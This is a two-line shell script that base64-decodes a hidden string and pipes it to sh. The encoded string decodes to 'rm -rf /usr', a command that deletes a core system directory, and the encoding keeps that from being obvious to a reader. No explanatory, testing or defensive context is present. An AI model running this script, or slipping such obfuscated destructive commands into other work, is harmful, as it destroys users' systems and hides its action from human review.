set -eu
echo 'cm0gLXJmIC91c3IK' | openssl base64 -d | sh
